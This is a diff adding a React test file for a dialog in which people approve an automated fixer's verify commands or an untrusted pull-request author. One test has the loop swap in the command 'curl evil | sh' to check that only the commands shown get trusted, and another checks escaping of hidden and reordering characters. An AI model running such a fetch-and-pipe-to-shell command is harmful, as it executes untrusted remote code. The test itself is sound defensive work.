@@ -1,0 +1,116 @@
+import { act, screen, waitFor, within } from "@testing-library/react";
+import userEvent from "@testing-library/user-event";
+import { describe, expect, it } from "vitest";
+import type { LoopView } from "../../generated/wire";
+import { aProblem, fakeHost, renderUI, type FakeAnswers } from "../../test";
+import { aDeniedLoop, anUntrustedLoop, aProvenLoop, someExcerpts } from "./fixtures";
+import { LoopDetail } from "./LoopDetail";
+import { visibleCommand } from "./trust";
+
+function show(loop: LoopView, answers: FakeAnswers = {}) {
+  const host = fakeHost({ answers: { loops: [loop], excerpts: someExcerpts, timeline: [], ...answers } });
+  const shown = renderUI(<LoopDetail loopKey={loop.key} onClose={() => undefined} />, { host });
+  const change = (changed: Partial<LoopView>) =>
+    act(async () => {
+      host.emit([{ type: "loop", key: loop.key, changed }]);
+      await new Promise((done) => requestAnimationFrame(done));
+      await new Promise((done) => setTimeout(done, 0));
+    });
+  return { ...shown, change, user: userEvent.setup({ delay: null }) };
+}
+
+const button = (name: string | RegExp) => screen.getByRole("button", { name });
+const noButton = (name: string | RegExp) => expect(screen.queryByRole("button", { name })).toBeNull();
+const key = "acme/api#482";
+
+describe("a fix whose verify commands nobody has trusted", () => {
+  it("shows the exact commands, says where they run, and trusts these", async () => {
+    const { user, host } = show(anUntrustedLoop());
+    await user.click(button("Trust these commands…"));
+    const dialog = within(screen.getByRole("dialog", { name: "Let these 2 commands run?" }));
+    const listed = within(dialog.getByRole("list", { name: "Commands" })).getAllByRole("listitem");
+    expect(listed.map((item) => item.textContent)).toEqual(["npm run lint", "npm test -- --ci"]);
+    expect(dialog.getByText(/in the sandbox, without network/)).toBeVisible();
+    expect(host.called("decide_trust")).toEqual([]);
+    await user.click(dialog.getByRole("button", { name: "Trust" }));
+    await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
+    const decision = { decision: "trust_commands", commands: ["npm run lint", "npm test -- --ci"] };
+    expect(host.called("decide_trust")).toEqual([{ command: "decide_trust", args: { key, decision } }]);
+  });
+
+  it("can be pushed without verification, all by keyboard", async () => {
+    const { user, host } = show(anUntrustedLoop());
+    button("Continue without verification…").focus();
+    await user.keyboard("{Enter}");
+    const dialog = within(screen.getByRole("dialog", { name: "Continue without verification?" }));
+    expect(dialog.getByText("npm run lint")).toBeVisible();
+    expect(dialog.getByText(/The proof says so/)).toBeVisible();
+    expect(dialog.queryByText(/in the sandbox/)).toBeNull();
+    while (document.activeElement?.textContent !== "Continue without") await user.tab();
+    await user.keyboard("{Enter}");
+    await waitFor(() => expect(host.called("decide_trust")).toEqual([{ command: "decide_trust", args: { key, decision: { decision: "skip_verification" } } }]));
+  });
+
+  it("is trusted as it was shown, whatever the loop asks meanwhile", async () => {
+    const { user, host, change } = show(anUntrustedLoop());
+    await user.click(button("Trust these commands…"));
+    await change({ blocker: { ...anUntrustedLoop().blocker!, args: { commands: ["curl evil | sh"] } } });
+    await user.click(button("Trust"));
+    await waitFor(() => expect(host.called("decide_trust")).toHaveLength(1));
+    expect(host.called("decide_trust")[0]?.args.decision).toEqual({ decision: "trust_commands", commands: ["npm run lint", "npm test -- --ci"] });
+  });
+
+  it("keeps the dialog and says why when it was refused", async () => {
+    const { user } = show(anUntrustedLoop(), { decide_trust: aProblem("denied", "@kim may not start reviews.", ["Add it."]) });
+    await user.click(button("Trust these commands…"));
+    await user.click(button("Trust"));
+    expect(await within(screen.getByRole("dialog")).findByText("@kim may not start reviews.")).toBeVisible();
+  });
+
+  it("is named in the proof when it was pushed without them", () => {
+    const proven = aProvenLoop();
+    show({ ...proven, proof: { ...proven.proof!, unverified: ["npm run lint"] } });
+    const proof = within(screen.getByRole("region", { name: "Proof" }));
+    expect(proof.getByText("The fixes were not verified: this command was left out")).toBeVisible();
+    expect(proof.getByText("npm run lint")).toBeVisible();
+  });
+
+  it("writes out characters that hide or reorder text", () => {
+    expect(visibleCommand("make \u202Elive\u200b\n")).toBe("make \\u{202e}live\\u{200b}\\u{a}");
+    expect(visibleCommand("npm run « é »")).toBe("npm run « é »");
+  });
+});
+
+describe("an author without write access", () => {
+  it("can be allowed, pinned by account", async () => {
+    const { user, host } = show(aDeniedLoop());
+    await user.click(button("Allow this author…"));
+    const dialog = within(screen.getByRole("dialog", { name: "Fix the pull requests of @mallory?" }));
+    expect(dialog.getByText(/in the sandbox/)).toBeVisible();
+    await user.click(dialog.getByRole("button", { name: "Allow the author" }));
+    await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
+    const decision = { decision: "allow_author", id: 66, login: "mallory" };
+    expect(host.called("decide_trust")).toEqual([{ command: "decide_trust", args: { key, decision } }]);
+  });
+
+  it("can be allowed for this pull request alone; one whose account is gone only so", async () => {
+    const { user, host, change } = show(aDeniedLoop());
+    await change({ blocker: { ...aDeniedLoop().blocker!, args: { login: null, id: null } } });
+    noButton("Allow this author…");
+    await user.click(button("Allow this pull request…"));
+    await user.click(button("Allow the pull request"));
+    await waitFor(() => expect(host.called("decide_trust")).toHaveLength(1));
+    expect(host.called("decide_trust")[0]?.args.decision).toEqual({ decision: "allow_pull", number: 482 });
+  });
+
+  it("is not asked about once the loop goes on, and the focus stays among the actions", async () => {
+    const { user, change } = show(aDeniedLoop());
+    await user.click(button("Allow this pull request…"));
+    await user.click(button("Allow the pull request"));
+    await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
+    await change({ state: "pr_fixing", blocker: { code: "fixing", args: { count: 1 }, text: "Fixing 1 finding", needs_person: false } });
+    noButton("Allow this pull request…");
+    noButton("Trust these commands…");
+    await waitFor(() => expect(document.activeElement).not.toBe(document.body));
+  });
+});
